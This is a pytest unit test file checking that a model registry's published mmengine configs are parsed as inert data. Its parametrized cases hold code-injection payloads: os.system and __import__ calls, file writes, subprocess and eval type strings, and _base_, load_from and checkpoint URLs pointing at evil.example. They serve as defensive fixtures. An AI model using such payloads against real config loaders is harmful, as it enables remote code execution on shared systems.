"""The config of a published version is data: nothing in it runs, whoever wrote it into the registry.

Run by: pytest. Must not import: backend, groundcrew.
Example: pytest tests/unit/test_config_data.py
"""

from __future__ import annotations

from pathlib import Path

import pytest
from mmengine.config import Config

from contract.errors import ConfigError
from contract.registry import ZOO
from worker.detectors.configs import prepare_for_inference, read_config
from worker.training.output import write_config

GOOD = "model = dict(type='GroundingDINO', backbone=dict(type='ResNet', depth=18))\n"


def published(folder: Path, text: str) -> Path:
    """config.py as it lies in a registry: beside the card of its version."""
    (folder / "card.json").write_text("{}")
    (folder / "config.py").write_text(text)
    return folder / "config.py"


def test_what_a_fine_tune_publishes_reads_as_if_it_had_run(tmp_path: Path) -> None:
    # given the config of a real version, as the trainer writes it
    own = prepare_for_inference(read_config(ZOO / "tiny-shapes" / "config.py"), ZOO / "tiny-shapes" / "bert")
    path = published(tmp_path, "")
    write_config(path, own)

    # when
    read, run = read_config(path), Config.fromfile(path)

    # then
    assert read.model.language_model.name == str(tmp_path / "bert")
    assert without_sources(read.to_dict()) == without_sources(run.to_dict())


def without_sources(value: object) -> object:
    if isinstance(value, dict):
        return {key: without_sources(entry) for key, entry in value.items() if key not in ("init_cfg", "pretrained")}
    return [without_sources(entry) for entry in value] if isinstance(value, list | tuple) else value


@pytest.mark.parametrize(
    "text",
    [
        "import os\nos.system('touch owned')\n" + GOOD,
        "__import__('os').system('touch owned')\n" + GOOD,
        GOOD + "default_scope = __import__('os').system('touch owned')\n",
        GOOD + "default_scope = open('owned', 'w').name\n",
        GOOD + "default_scope = f'{open(\"owned\", \"w\")}'\n",
        GOOD + "default_scope = [x for x in (1, 2)]\n",
        GOOD + "default_scope = (lambda: 1)()\n",
        GOOD + "default_scope = dict(**globals())\n",
        GOOD + "default_scope = {**{}}\n",
        GOOD + "default_scope = 'a' if open('owned', 'w') else 'b'\n",
        GOOD + "default_scope: print('x') = 'mmdet'\n",
        GOOD + "default_scope.x = 1\n",
        "_base_ = 'http://evil.example/config.py'\n" + GOOD,
        "_base_ = './other.py'\n" + GOOD,
        "custom_imports = dict(imports=['owned'], allow_failed_imports=False)\n" + GOOD,
        "load_from = 'http://evil.example/weights.pth'\n" + GOOD,
        "with open('owned', 'w'):\n    pass\n" + GOOD,
        "class Owned:\n    open('owned', 'w')\n" + GOOD,
        "model = dict(type='os.system', command='touch owned')\n",
        "model = dict(type='GroundingDINO', neck=dict(type='subprocess.call', args='touch owned'))\n",
        "model = dict(type='GroundingDINO', neck=dict(type='mmengine.load', file='http://evil.example/x.pkl'))\n",
        "model = dict(type='GroundingDINO', neck=dict(type='antigravity'))\n",
        "model = dict(type='GroundingDINO', neck=dict(type=['os.system']))\n",
        "model = dict(type='GroundingDINO', neck=dict(_scope_='evil', type='X'))\n",
        "model = dict(type='GroundingDINO', necks=[dict(a=(dict(type='builtins.eval', source='1'),))])\n",
        "model = " + "[" * 5000 + "]" * 5000,
        "model = (",
        "\0",
        GOOD + "# " + "x" * (1 << 20),
    ],
)
def test_a_version_that_wants_to_run_code_is_refused(
    text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    path = published(tmp_path, text)

    with pytest.raises(ConfigError):
        read_config(path)

    assert sorted(entry.name for entry in tmp_path.iterdir()) == ["card.json", "config.py"]


def test_a_version_loads_no_weights_but_its_own(tmp_path: Path) -> None:
    path = published(tmp_path, "model = dict(type='GroundingDINO', neck=dict(type='ChannelMapper', "
                     "init_cfg=dict(type='Pretrained', checkpoint='http://evil.example/x.pth')))\n")  # fmt: skip
    assert read_config(path).model.neck.init_cfg is None


def test_the_operators_own_file_still_runs(tmp_path: Path) -> None:
    (tmp_path / "mine.py").write_text("name = 'Grounding' + 'DINO'\nmodel = dict(type=name)\n")
    assert read_config(tmp_path / "mine.py").model.type == "GroundingDINO"
